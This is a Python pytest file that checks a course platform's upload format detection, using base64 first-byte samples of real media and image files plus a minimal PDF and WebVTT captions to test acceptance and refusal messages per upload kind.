"""Format checks of `courses.filetypes`, on the real first bytes of files of each format.

The samples below were made with ffmpeg 5.1 from its test sources (a colour-bar picture and a sine
tone), one per container and codec, and cut to the bytes the checks read.
"""

from __future__ import annotations

import base64
import random
import struct
import zlib

import pytest

from courses.filetypes import KINDS, TAIL_BYTES, FileRejected, UploadCheck, identify

# whole file?, base64 of the bytes
REAL: dict[str, tuple[bool, str]] = {
    # video.mp4: its first 64 of 12592 bytes
    "mp4": (
        False,
        """
        AAAAIGZ0eXBpc29tAAACAGlzb21pc28yYXZjMW1wNDEAAAAIZnJlZQAAKmltZGF0AAACrAYF//+o3EXpvebZSA==
    """,
    ),
    # video.m4v: its first 64 of 12580 bytes
    "m4v": (
        False,
        """
        AAAAIGZ0eXBNNFYgAAACAE00ViBpc29taXNvMmF2YzEAAAAIZnJlZQAAKmltZGF0AAACrAYF//+o3EXpvebZSA==
    """,
    ),
    # video.mov: its first 64 of 12643 bytes
    "mov": (
        False,
        """
        AAAAFGZ0eXBxdCAgAAACAHF0ICAAAAAId2lkZQAAKmltZGF0AAACrAYF//+o3EXpvebZSLeWLNgg2SPu73gyNg==
    """,
    ),
    # audio.m4a: its first 64 of 9976 bytes
    "m4a": (
        False,
        """
        AAAAHGZ0eXBNNEEgAAACAE00QSBpc29taXNvMgAAAAhmcmVlAAAjJW1kYXTeAgBMYXZjNTkuMzcuMTAwAAJgrA==
    """,
    ),
    # video.webm: its first 700 of 2088 bytes
    "webm_video": (
        False,
        """
        GkXfo59ChoEBQveBAULygQRC84EIQoKEd2VibUKHgQJChYECGFOAZwEAAAAAAAf4EU2bdLpNu4tTq4QVSalmU6yBoU27i1Or
        hBZUrmtTrIHYTbuMU6uEElTDZ1OsggElTbuMU6uEHFO7a1Osggfi7AEAAAAAAABZAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA
        AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAVSalmsirX
        sYMPQkBNgI1MYXZmNTkuMjcuMTAwV0GNTGF2ZjU5LjI3LjEwMESJiECPQAAAAAAAFlSua8iuAQAAAAAAAD/XgQFzxYjFBajT
        wG/AcZyBACK1nIN1bmSIgQCGhVZfVlA4g4EBI+ODhAvrwgDgkLCBQLqBMJqBAlWwhFW5gQESVMNn/XNzoGPAgGfImkWjh0VO
        Q09ERVJEh41MYXZmNTkuMjcuMTAwc3PXY8CLY8WIxQWo08BvwHFnyKFFo4dFTkNPREVSRIeUTGF2YzU5LjM3LjEwMCBsaWJ2
        cHhnyKJFo4hEVVJBVElPTkSHlDAwOjAwOjAxLjAwMDAwMDAwMAAAH0O2dUY154EAo0RHgQAAgFAaAJ0BKkAAMAAARwiFhYiF
        hIgCAgJ1uiTtfhf4W/q98BNIfjX2J/VnLF+E/5f+Rn9L9gH8AewB/QH+N/g9wAf0h/r/8a4QH+7f1XrAfQB/Xf0ZP6d/dPg7
        /VP/Nf3f4Cv4t/Ivn/0gHsy/rH4bdBp615Oj7R+OmiU/mv42ZZl8i/sX5AaMBr0P8Z9gPwq6J3j7/gfz34C/4P/JP8J+Uv9y
        ///KA/odxQ15FZ5gEmkiN8DWu2ce9tUMw0pPWp8iXNetPmV9zQ+eBdAd7/FjBwyz0MJJDA==
    """,
    ),
    # video_av.webm: its first 700 of 11742 bytes
    "webm_video_audio": (
        False,
        """
        GkXfo59ChoEBQveBAULygQRC84EIQoKEd2VibUKHgQRChYECGFOAZwEAAAAAAC2uEU2bdLpNu4tTq4QVSalmU6yBoU27i1Or
        hBZUrmtTrIHYTbuMU6uEElTDZ1OsggGLTbuMU6uEHFO7a1Osgi2X7AEAAAAAAABZAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA
        AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAVSalmsirX
        sYMPQkBNgI1MYXZmNTkuMjcuMTAwV0GNTGF2ZjU5LjI3LjEwMESJiECPgAAAAAAAFlSua0CtrgEAAAAAAAA/14EBc8WIrxZx
        UM3eU7qcgQAitZyDdW5kiIEAhoVWX1ZQOIOBASPjg4QL68IA4JCwgUC6gTCagQJVsIRVuYEBrgEAAAAAAABc14ECc8WILRDo
        exyfrKCcgQAitZyDdW5kiIEAhoZBX09QVVNWqoNjLqBWu4QExLQAg4EC4ZGfgQG1iEDncAAAAAAAYmSBEGOik09wdXNIZWFk
        AQE4AYC7AAAAAAASVMNnQNhzc6BjwIBnyJpFo4dFTkNPREVSRIeNTGF2ZjU5LjI3LjEwMHNz12PAi2PFiK8WcVDN3lO6Z8ih
        RaOHRU5DT0RFUkSHlExhdmM1OS4zNy4xMDAgbGlidnB4Z8iiRaOIRFVSQVRJT05Eh5QwMDowMDowMS4wMDcwMDAwMDAAAHNz
        2GPAi2PFiC0Q6Hscn6ygZ8iiRaOHRU5DT0RFUkSHlUxhdmM1OS4zNy4xMDAgbGlib3B1c2fIokWjiERVUkFUSU9ORIeUMDA6
        MDA6MDEuMDA4MDAwMDAwAAAfQ7Z1ayjngQCjQTCCAACA+LSvyqrltbCmHLF66f460AaFUQ==
    """,
    ),
    # audio.webm: its first 700 of 9991 bytes
    "webm_audio": (
        False,
        """
        GkXfo59ChoEBQveBAULygQRC84EIQoKEd2VibUKHgQRChYECGFOAZwEAAAAAACbXEU2bdLpNu4tTq4QVSalmU6yBoU27i1Or
        hBZUrmtTrIHYTbuMU6uEElTDZ1OsggFCTbuMU6uEHFO7a1OsgibB7AEAAAAAAABZAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA
        AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAVSalmsirX
        sYMPQkBNgI1MYXZmNTkuMjcuMTAwV0GNTGF2ZjU5LjI3LjEwMESJiECPgAAAAAAAFlSua+WuAQAAAAAAAFzXgQFzxYhX2/cA
        D71J/5yBACK1nIN1bmSIgQCGhkFfT1BVU1aqg2MuoFa7hATEtACDgQLhkZ+BAbWIQOdwAAAAAABiZIEQY6KTT3B1c0hlYWQB
        ATgBgLsAAAAAABJUw2f+c3OgY8CAZ8iaRaOHRU5DT0RFUkSHjUxhdmY1OS4yNy4xMDBzc9hjwItjxYhX2/cAD71J/2fIokWj
        h0VOQ09ERVJEh5VMYXZjNTkuMzcuMTAwIGxpYm9wdXNnyKJFo4hEVVJBVElPTkSHlDAwOjAwOjAxLjAwODAwMDAwMAAAH0O2
        dWT254EAo0EwgQAAgPi0r8qq5bWwphyxeun+OtAGhVFM6SkBz5d09IBNWwtKE+YP9X/xgNawwTaoKyLT5eH2ReMJZBIt3T5l
        g/4Vh0fQ5YQqfTcUDVqr+SeUPaCzRzD9zoo6BkLcYrMYIjyV0viFIRyf1k4ES/NNhn27IY+7VY+d8a9otZAGjob7frIRkI0J
        Fe8DSikX1kPrvupEuBjtTpn7NcoDSMy0Kl2LxHefxzUrxNxIlyECGrja1SAD9lvdWvkFkQ==
    """,
    ),
    # video.ogv: its first 300 of 8030 bytes
    "ogg_theora": (
        False,
        """
        T2dnUwACAAAAAAAAAABTNhz1AAAAANjqkZABKoB0aGVvcmEDAgEABAADAABAAAAwAAAAAAAFAAAAAQAAAQAAAQADDUAA2E9n
        Z1MAAAAAAAAAAAAAUzYc9QEAAABz8TMGDj////////////////+QgXRoZW9yYQ0AAABMYXZmNTkuMjcuMTAwAQAAAB8AAABl
        bmNvZGVyPUxhdmM1OS4zNy4xMDAgbGlidGhlb3JhgnRoZW9yYb7NKPe5zWsYtalJShBznOYxjFKUpCEIMYxiEIQhCEAAAAAA
        AAAAAAARba5TZ5LI/FYS/Hg5W2zmKvVoq1QoEykkWhD+eTmbjWZTCXiyVSmTiSSCGQh8PB2OBqNBgLxWKhQJBGIhCHw8HAyG
        AsFAiDgVFtrlNnks
    """,
    ),
    # audio.ogg: its first 300 of 5265 bytes
    "ogg_vorbis": (
        False,
        """
        T2dnUwACAAAAAAAAAAAhw82eAAAAAE9vbe4BHgF2b3JiaXMAAAAAAUSsAAAAAAAAgDgBAAAAAAC4AU9nZ1MAAAAAAAAAAAAA
        IcPNngEAAAApCRZ2DkD///////////////+BA3ZvcmJpcw0AAABMYXZmNTkuMjcuMTAwAQAAAB8AAABlbmNvZGVyPUxhdmM1
        OS4zNy4xMDAgbGlidm9yYmlzAQV2b3JiaXMiQkNWAQBAAAAkcxgqRqVzFoQQGkJQGeMcQs5r7BlCTBGCHDJMW8slc5AhpKBC
        iFsogdCQVQAAQAAAh0F4FISKQQghhCU9WJKDJz0IIYSIOXgUhGlBCCGEEEIIIYQQQgghhEU5aJKDJ0EIHYTjMDgMg+U4+ByE
        RTlYEIMnQegghA9C
    """,
    ),
    # audio.opus: its first 300 of 9336 bytes
    "ogg_opus": (
        False,
        """
        T2dnUwACAAAAAAAAAABmxtAIAAAAALuEh9wBE09wdXNIZWFkAQE4AYC7AAAAAABPZ2dTAAAAAAAAAAAAAGbG0AgBAAAAOiva
        ZQE+T3B1c1RhZ3MNAAAATGF2ZjU5LjI3LjEwMAEAAAAdAAAAZW5jb2Rlcj1MYXZjNTkuMzcuMTAwIGxpYm9wdXNPZ2dTAACA
        uwAAAAAAAGbG0AgCAAAA40Cx1DP/LaCqq6qqpKuur6+rr66vr6uvrq+vrK+ur6+rr62urquwrq6uq6+trq6qsK2trauvr674
        tK/KquW1sKYcsXrp/jrQBoVRTOkpAc+XdPSATVsLShPmD/V/8YDWsME2qCsi0+Xh9kXjCWQSLd0+ZYP+FYdH0OWEKn03FA1a
        q/knlD2gs0cw/c6K
    """,
    ),
    # audio_flac.ogg: its first 300 of 12284 bytes
    "ogg_flac": (
        False,
        """
        T2dnUwACAAAAAAAAAAD+fdiBAAAAAMPHqOQBM39GTEFDAQAAAWZMYUMAAAAiEgASAAAAAAAkFQrEQPAAAAAAAAAAAAAAAAAA
        AAAAAAAAAE9nZ1MAAAAAAAAAAAAA/n3YgQEAAAAwZoFzATeEAAAzDQAAAExhdmY1OS4yNy4xMDABAAAAGgAAAGVuY29kZXI9
        TGF2YzU5LjM3LjEwMCBmbGFjT2dnUwAERKwAAAAAAAD+fdiBAgAAADNCTZMw/////97/////4v/////e/////+7/////5///
        ///0//////T/////9//////w///z//hZCAA8TgAAAQAB/wL9A/gE7gXgBszmp64XhfObtV9kv0AgK8P/gAySeQzJJJPDMzmQ
        mhnJSZkk0zJ8/JPJ
    """,
    ),
    # audio.mp3: its first 1024 of 8586 bytes
    "mp3_id3": (
        False,
        """
        SUQzBAAAAAAAI1RTU0UAAAAPAAADTGF2ZjU5LjI3LjEwMAAAAAAAAAAAAAAA//tAwAAAAAAAAAAAAAAAAAAAAAAASW5mbwAA
        AA8AAAAoAAAhXQALCxERGBgYHh4kJCQrKzExMTc3PT09RERKSkpQUFZWVl1dY2NjaWlvb292dnx8fIKCiIiIj4+VlZWbm6Ki
        oqiorq6utLS7u7vBwcfHx83N1NTU2trg4ODm5u3t7fPz+fn5//8AAAAATGF2YzU5LjM3AAAAAAAAAAAAAAAAJAV8AAAAAAAA
        IV1w/OrHAAAAAAD/+1DEAAAKLEMuVZSAAYEVZiM60AAHqsOOM4XTZPGhwQgcWB9eHxgcRgQeieWzLloPqDsTa/D4YFAUBAMC
        gkQMTmjRo2wfeIAQBDE4P8EHTnT5zl/Ocv7un3cuD4Pg+HwQDEoAwf0gAQgAAQQAGGo6GHtxCABDFORkaDG0yjW4hQCBxvsH
        SnZzMDiiZiWExhGEi3uv1sEdAdPgOUSYLV+FqHaMKJb/juGGEuJEev/kiZF4vGJd//LpkXi8iXS7/EQVBURHv+CqAFKxgDgB
        2YA8//tSxASCCmAhEL3xAAFLhKGhz+xIAdmBOAXJgCAE8YCOBwGW0rAZkewqOYVwDcmCkAc5gSYF4YFSBSGBcgRRgGIBVA1H
        DoLO1ZmnX6qKOHvyrf+tdv01aOr96cb//+8CCKMAgUxgNDNZ5NrQowgUNRM2CZyzNMQ1Mwg4EoPvwTe4k254Nt2TPzkug78Y
        p7AJ0cKM63KxajfkqO/D930EXHlWNvRZ+5ec0IAb+iuYe7rR0TASQFIwFABxMBzAuDAyAW8wd0SAMy4jODMYxGYwbQH/+1LE
        D4PLNFcKD+xGwY0K4QHP1Eg7NlSjJDE3NeOWyTYDUMFmmy6z1U2+kKvpyKNomfO1gDfMd4g1e9OQV96K2Jazko9t+tdWx+/o
        3c1tQYOBBkskmmE8cnqphWwhYaPnAfGjCCGBhYYL+B0KAAakXgGk1WBpCVAZWKgBQPFAEXLhfTZ/tzn0/We0i7H5hldewuSY
        8c2xvfKLXGUu2Xvuc2/LG7CCYxibyPZlCFGRS6YHXADIqrRkxeZaiGgO5vPoYJYGKmQfsKpkAgYGYIiBpP/7UsQPAgnMIxDN
        /0JBXQrhlf2I2GyXmVJHGZnf8G7LIGwNZ7Lbpffo8hfF8o9SNM65Hp7qP3/7Oy+TaMmC9qQ+Vb9OgsIDAMAJmAbAFhgOYDeY
        HAB6GEOhiJnDC+uZuGGKmESAix+t6bvFmzPxsfKZyel2H/lFPYI+rJ8ir+uNovvT1P70ZR313ySTSNuNvV7RWj5/rrYg6rff
        /N0AQEmOyIY+MpllTGnKaQ==
    """,
    ),
    # audio_noid3.mp3: its first 1024 of 8359 bytes
    "mp3": (
        False,
        """
        //tQxAAACixDLlWUgAGBFWYjOtAAB6rDjjOF02TxocEIHFgfXh8YHEYEHonlsy5aD6g7E2vw+GBQFAQDAoJEDE5o0aNsH3iA
        EAQxOD/BB050+c5fznL+7p93Lg+D4Ph8EAxKAMH9IAEIAAEEABhqOhh7cQgAQxTkZGgxtMo1uIUAgcb7B0p2czA4omYlhMYR
        hIt7r9bBHQHT4DlEmC1fhah2jCiW/47hhhLiRHr/5ImReLxiXf/y6ZF4vIl0u/xEFQVER7/gqgBSsYA4AdmAPP/7UsQEggpg
        IRC98QABS4Shoc/sSAHZgTgFyYAgBPGAjgcBltKwGZHsKjmFcA3JgpAHOYEmBeGBUgUhgXIEUYBiAVQNRw6CztWZp1+qijh7
        8q3/rXb9NWjq/enG///vAgijAIFMYDQzWeTa0KMIFDUTNgmcszTENTMIOBKD78E3uJNueDbdkz85LoO/GKewCdHCjOtysWo3
        5Kjvw/d9BFx5Vjb0WfuXnNCAG/ormHu60dEwEkBSMBQAcTAcwLgwMgFvMHdEgDMuIzgzGMRmMG0B//tSxA+DyzRXCg/sRsGN
        CuEBz9RIOzZUoyQxNzXjlsk2A1DBZpsus9VNvpCr6cijaJnztYA3zHeINXvTkFfeitiWs5KPbfrXVsfv6N3NbUGDgQZLJJph
        PHJ6qYVsIWGj5wHxowghgYWGC/gdCgAGpF4BpNVgaQlQGVioAUDxQBFy4X02f7c59P1ntIux+YZXXsLkmPHNsb3yi1xlLtl7
        7nNvyxuwgmMYm8j2ZQhRkUumB1wAyKq0ZMXmWohoDubz6GCWBipkH7CqZAIGBmCIgaT/+1LEDwIJzCMQzf9CQV0K4ZX9iNhs
        l5lSRxmZ3/BuyyBsDWey26X36PIXxfKPUjTOuR6e6j9/+zsvk2jJgvakPlW/ToLCAwDACZgGwBYYDmA3mBwAehhDoYiZwwvr
        mbhhiphEgIsfrem7xZsz8bHymcnpdh/5RT2CPqyfIq/rjaL709T+9GUd9d8kk0jbjb1e0Vo+f662IOq33/zdAEBJjsiGPjKZ
        ZUxpymmC+iDhlIkBsZP+IDGCrAkZoKcZQMm0oxw06asSiQc6sus9eddsC//7UsQaAoqAJQyuf2JBcwrhQc/USHYKO739WRZ5
        vYpP6+qQt0dKHK6rlf3UTSFolF0UJ73pBQgMijM0UejhcNMJ2DWDQYWfoz/wNeMJ/BNwOONgDRSkAzqlwM3QwDHxKAOAYuQi
        5cM00PU3mv/nG1WMVYqpHlFfR13le917EDszvJWopfsRManJ9datpdF15pZpAAAAtULiaSRZ0EhjAGTJxjBMEPMpeN0yhBCT
        BDA8Bg1LgNE4yDDQLada6w==
    """,
    ),
    # audio.aac: its first 1024 of 9304 bytes
    "aac_adts": (
        False,
        """
        //FQQCE//N4CAExhdmM1OS4zNy4xMDAAAmCsW6lQcialePXj9664ltVJapaVJMk7g6EBBhVy8Xca6S1r2l5jwbtjzur5PFLY
        Mz5L55010jzdzbuLYOUuI6+1TbVs2VTtVZ91ViOFY3FXGzaDZsbYsTcrLcs517E47G4q42a4z1Zjo1+avzV+axz62fW1LPUs
        dGvzWmavzV+fWz62fWz6qfX5rDNYabOizorUVqKVNjMxmYzMaK1FaitRY02MzGZjExos6K1FaixosZmMzGJKJKeKeKJKJfC+
        S+SUSU8U8U8US+S+S+S+8U8U8U8US+S/FFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFwP/xUEAhP/wBNJra0k3AbMVMJsxUonTd
        Tann61fDb41d1/6cfr9XBd6n/9Lz+vxwGrm//7fX7+0hq+M6El0EF/iaMDDx5cB9k07sFil8NqJhdcGa0gu2J3ONIh8LF2uN
        ghxsWpqprUEKl1U2cz/xtDXbv6zokGBruQSEgwMDZO4SEhIMDAzu4SEnAYcy7uEnGgZkGze13CQnJfn5khsjNCbCXf4Qqw01
        cR0gyUopVJG5lZs7Ko3NLW222yaLSKU2cyVVUWmdTA3yYG/rISDEgYGCQklecGNyhISVJZuDAxsJCSt7HNFLKElbsBBBl4cL
        McvEfa6/vD6bKsq/KdEhJyaY4lW1MsJSleD/8VBAEz/8ARb2LPS2MRde736+c/Xz9ZrhFLmS03EjwkXUkXSBAeMc++c8w/bc
        R5hiMmh+Ec3eWLfVZV8szsu0/e/A8ZsMK9Z11bq3GsqjnLGdxOJsMapOGZNmzY0UeKxatWuEgU4+bHGZgevDDBxBpsccZkB6
        8MJHcGpxxmZAf394T/Hw2n39yP8fBh7+5DxzGHv7yjN8G4D/8VBAGD/8AOI2LPE9CwtDAdWwdC5zx//b+f/L/fqupNyZrUm+
        qpAaFJV4rVTdDMWhX9IMbP0boI5oyhQvH4wcfF09Bx3u/oePirrW/FrosoJwnefJfMIgoByVGc4IhI/wqY6aQVSaAYH1wiTi
        Y6ZvpvnipBLoTESsiqpo0sfVVtWXU34ZhApt8ZrasoX1zQvQpiBhz+0u7IAY6/KkRb98rvF9VFd3SsTaHgUNMZaffiz4D1kx
        gmpmOjC2o4p2Tkoc//FQQBy//ADkNizxNh6Eg6FQ6GA6FA6Fg6V/H48f/xe//5/FNcVDfFalSN1e39W7abkFBiOUhUVKx0ob
        m99OmAqEaHrlF8f/PHvb8qxwYZWTZYaUKSYkwYZCOBHAsRIgiWNEaKQZGxhOYkQSWSjz4RSC6ORRnfJ5xQUSUh3kFUqL1B43
        CyBBQTDipwlJXTeBDjHQLQ==
    """,
    ),
    # audio.flac: its first 64 of 20335 bytes
    "flac": (
        False,
        """
        ZkxhQwAAACISABIAAALxAATzCsRA8AAArESbqV6FcSQ1XBEzDTJ+tmskBAAALg0AAABMYXZmNTkuMjcuMTAwAQ==
    """,
    ),
    # audio.wav: its first 64 of 88278 bytes
    "wav": (
        False,
        """
        UklGRs5YAQBXQVZFZm10IBAAAAABAAEARKwAAIhYAQACABAATElTVBoAAABJTkZPSVNGVA4AAABMYXZmNTkuMg==
    """,
    ),
    # image.png: the whole file
    "png": (
        True,
        """
        iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAIAAACQkWg2AAAACXBIWXMAAAABAAAAAQBPJcTWAAAAb0lEQVR4nO3SywmAMBAE
        0OlEO9FOtBPtRDvRTrSTkf0kgSAGPXhKWNhM2LenAHqoZY1aFixZt4MM0K90xgRzEGZuQHxKwHc8At/5BYTJMojbKygACSO4
        4yAmopHcg6uML0THFpzBU/JGDD+At7/1As7VYK4oz0zvAAAAAElFTkSuQmCC
    """,
    ),
    # image.gif: the whole file
    "gif": (
        True,
        """
        R0lGODlhEAAQAPcfMQAAACQAAEgAAGwAAJAAALQAANgAAPwAAAAkACQkAEgkAGwkAJAkALQkANgkAPwkAABIACRIAEhIAGxI
        AJBIALRIANhIAPxIAABsACRsAEhsAGxsAJBsALRsANhsAPxsAACQACSQAEiQAGyQAJCQALSQANiQAPyQAAC0ACS0AEi0AGy0
        AJC0ALS0ANi0APy0AADYACTYAEjYAGzYAJDYALTYANjYAPzYAAD8ACT8AEj8AGz8AJD8ALT8ANj8APz8AAAAVSQAVUgAVWwA
        VZAAVbQAVdgAVfwAVQAkVSQkVUgkVWwkVZAkVbQkVdgkVfwkVQBIVSRIVUhIVWxIVZBIVbRIVdhIVfxIVQBsVSRsVUhsVWxs
        VZBsVbRsVdhsVfxsVQCQVSSQVUiQVWyQVZCQVbSQVdiQVfyQVQC0VSS0VUi0VWy0VZC0VbS0Vdi0Vfy0VQDYVSTYVUjYVWzY
        VZDYVbTYVdjYVfzYVQD8VST8VUj8VWz8VZD8VbT8Vdj8Vfz8VQAAqiQAqkgAqmwAqpAAqrQAqtgAqvwAqgAkqiQkqkgkqmwk
        qpAkqrQkqtgkqvwkqgBIqiRIqkhIqmxIqpBIqrRIqthIqvxIqgBsqiRsqkhsqmxsqpBsqrRsqthsqvxsqgCQqiSQqkiQqmyQ
        qpCQqrSQqtiQqvyQqgC0qiS0qki0qmy0qpC0qrS0qti0qvy0qgDYqiTYqkjYqmzYqpDYqrTYqtjYqvzYqgD8qiT8qkj8qmz8
        qpD8qrT8qtj8qvz8qgAA/yQA/0gA/2wA/5AA/7QA/9gA//wA/wAk/yQk/0gk/2wk/5Ak/7Qk/9gk//wk/wBI/yRI/0hI/2xI
        /5BI/7RI/9hI//xI/wBs/yRs/0hs/2xs/5Bs/7Rs/9hs//xs/wCQ/ySQ/0iQ/2yQ/5CQ/7SQ/9iQ//yQ/wC0/yS0/0i0/2y0
        /5C0/7S0/9i0//y0/wDY/yTY/0jY/2zY/5DY/7TY/9jY//zY/wD8/yT8/0j8/2z8/5D8/7T8/9j8//z8/yH/C05FVFNDQVBF
        Mi4wAwEAAAAh+QQEAAAfACwAAAAAEAAQAAAIkQABADhwAAeOHz+AATt2DB++f/8EEsRxTCFCgw4hSsTH0OIPgwQ1AnDYEdhF
        HAQBRBzJsaLJjygPqFRJ0uXJlAL/1fQIUmbOnS97CqTZkmfMoTqLBj36U+lNn0RLPpX44caPHTnw4MKHDlowYscOHTlw4YYP
        Hga3okP21dixsR9eXM2q1uuwsEckFrQJM+O/gAAAOw==
    """,
    ),
    # image.jpg: the whole file
    "jpeg": (
        True,
        """
        /9j/4AAQSkZJRgABAgAAAQABAAD//gAQTGF2YzU5LjM3LjEwMAD/2wBDAAgEBAQEBAUFBQUFBQYGBgYGBgYGBgYGBgYHBwcI
        CAgHBwcGBgcHCAgICAkJCQgICAgJCQoKCgwMCwsODg4RERT/xAByAAEBAAAAAAAAAAAAAAAAAAAFBgEBAAMBAAAAAAAAAAAA
        AAAABgIDAQQQAAICAQQABQUBAAAAAAAAAAMEAgUBEQcSBiIhFAATFiQjMUEVEQABBAEEAQUBAAAAAAAAAAACBQQDAQYHERMS
        ABQhIhYyFf/AABEIABAAEAMBEgACEgADEgD/2gAMAwEAAhEDEQA/AJmVRa7e7V0TSdgdOxskl7SbVe0cM4Beku0oKBIRASEo
        KucWIx1xksiY5zhiOfdDbq9e7htp1sX1LVowRq6uqMX5ljxhlJZNaJSfdiwP5pKS0HLPhzLMeUuPmp02wTEV176xYR2CxJKJ
        hYKUEb1sI7FWwtnAm333gAqkKO5BvtQnVXt4c071cX07JRQ2uCqakY9iuWGdz24tzopuIEqW6AOYOxd+tb1vfv5qWsT5E1zR
        u+hbF9JaoLbHpQjsZ2n992bpTn5LK7udzxwwd660DeLpHQ8k1yc+Ws3umX3A01q4y2DLRSJInDOI4Ym0KDKMEswFCL4XMZTO
        IYpCEoxhkkAbsrKq8V7z3FfZrtiNjVV6alWFpf8A0EEkVoRImT0o2PTiHJaMWIiZORf8ox5PmOS8o64yJu3V9j3Gv7GoBQ2y
        uRcOBRKNO5NpgEvCOIA/uIOXlKXlLX+exmm+ZZYuxXGrrqqrDN+7UXk78/hc9j1kdnLIH5HfoQ9qEaLeqrxJhelWMoSASqm5
        +kL5wB2kas42tkFnctAJlCrObGysiodw97C9vL0NFYLb/UF8oU4cy4n9b+uATx5TVI/sgYKPpmYTi0r1YiNy9oS+Vd62L38n
        pQqpSu4zNmsqDLGH+Uigl6BQcQxu2NpAFJY8Lk2ss/NGXf8AEXGNb/KvP//Z
    """,
    ),
    # image.webp: the whole file
    "webp_lossy": (
        True,
        """
        UklGRg4BAABXRUJQVlA4IAIBAADwBQCdASoQABAAAgA0JbACdHIA+2a5Sf1m31XgAOkY/VX/VerHcgK4BUbc0TfAP1ALZ5ky
        3rvAAAD++WfieLcof5Zeb1LmwTZygt4fk0QvHdzpU/RzBzD3uYzBOBzXnGxr3yTOWCLx9L4t8Ouf/v/M6qE4+bufQV1J8/6/
        7GbMTDf0HVNa0ReOKO6sU9z2ANxrTqz5xM+AZ6nIcQkp5vzECosQPGS7/8dn705dWut1mJ/8yG36GWzXj2iRm/jE5kf1ryJ1
        8s/3lwdL+MRwdj8venaMp9dF/P+6nXFf5ptvQe8z2cJ39eUH9cqg2//RrXEu+lJtoxbimf+j00VuquK6AAA=
    """,
    ),
    # image_lossless.webp: the whole file
    "webp_lossless": (
        True,
        """
        UklGRmoAAABXRUJQVlA4TF0AAAAvD8ADAHAQSZIUpTOs4AwrOCv+704AgrZtYyYb05/pzyQG2UYq2pu82ps82vo/EIBIRClE
        SqVUVQeKqJSIk6RORHbpEp6obuD/yZg5PR2NTC5NGmRz89Nr37t9rQAA
    """,
    ),
}


def sample(name: str) -> bytes:
    return base64.b64decode("".join(REAL[name][1].split()))


def whole(name: str) -> bool:
    return REAL[name][0]


def minimal_pdf() -> bytes:
    """A complete one-page PDF: header, three objects, cross-reference table, trailer."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return out


def mp4_file(payload: bytes) -> bytes:
    """The real MP4 header (ftyp, free) and an mdat box sized to hold `payload`."""
    head = sample("mp4")[:40]
    return head + struct.pack(">I", 8 + len(payload)) + b"mdat" + payload


VTT = "WEBVTT\n\n00:00:00.000 --> 00:00:02.000\nBonjour, ça va ? 字幕\n".encode()

# name -> {kind: content type} the sample is accepted for; every other kind refuses it.
EXPECTED = {
    "mp4": {"video": "video/mp4", "audio": "audio/mp4"},
    "m4v": {"video": "video/mp4"},
    "mov": {"video": "video/quicktime"},
    "m4a": {"audio": "audio/mp4"},
    "webm_video": {"video": "video/webm"},
    "webm_video_audio": {"video": "video/webm"},
    "webm_audio": {"audio": "audio/webm"},
    "ogg_theora": {"video": "video/ogg"},
    "ogg_vorbis": {"audio": "audio/ogg"},
    "ogg_opus": {"audio": "audio/ogg"},
    "ogg_flac": {"audio": "audio/ogg"},
    "mp3_id3": {"audio": "audio/mpeg"},
    "mp3": {"audio": "audio/mpeg"},
    "aac_adts": {"audio": "audio/aac"},
    "flac": {"audio": "audio/flac"},
    "wav": {"audio": "audio/wav"},
    "png": {"image": "image/png"},
    "gif": {"image": "image/gif"},
    "jpeg": {"image": "image/jpeg"},
    "webp_lossy": {"image": "image/webp"},
    "webp_lossless": {"image": "image/webp"},
}


def check(data: bytes, kind: str, *, complete: bool = True, filename: str = "upload.bin") -> str:
    """Run an upload's checks as storage does: head, then (for whole files) the end."""
    upload = UploadCheck(kind, filename)
    content_type = upload.start(data, complete=complete)
    if complete:
        upload.finish(len(data))
    return content_type


def refused(data: bytes, kind: str, *, complete: bool = True, filename: str = "upload.bin") -> FileRejected:
    with pytest.raises(FileRejected) as caught:
        check(data, kind, complete=complete, filename=filename)
    return caught.value


def test_samples_cover_every_kind_but_pdf_and_captions():
    assert {kind for accepted in EXPECTED.values() for kind in accepted} == set(KINDS) - {"pdf", "captions"}
    assert set(EXPECTED) == set(REAL)


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_each_real_format_is_accepted_for_its_kind_with_the_sniffed_type(name):
    for kind, content_type in EXPECTED[name].items():
        assert check(sample(name), kind, complete=whole(name)) == content_type


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_each_real_format_is_refused_for_other_kinds_saying_what_it_is(name):
    found = identify(sample(name), complete=whole(name))
    assert found is not None
    for kind in set(KINDS) - set(EXPECTED[name]):
        error = refused(sample(name), kind, complete=whole(name), filename="lecture.xyz")
        assert error.reason == "type"
        assert str(error) == f"“lecture.xyz” is {found.label}, not {KINDS[kind]}."


def test_audio_only_files_are_not_videos():
    assert "no picture" in str(refused(sample("webm_audio"), "video", complete=False))
    assert "Ogg audio" in str(refused(sample("ogg_opus"), "video", complete=False))
    assert "M4A audio" in str(refused(sample("m4a"), "video", complete=False))


def test_pdf_and_webvtt_are_accepted():
    assert check(minimal_pdf(), "pdf") == "application/pdf"
    assert check(VTT, "captions") == "text/vtt"
    assert check(b"\xef\xbb\xbfWEBVTT - Lecture 1\r\n\r\n", "captions") == "text/vtt"
    assert check(b"WEBVTT", "captions") == "text/vtt"


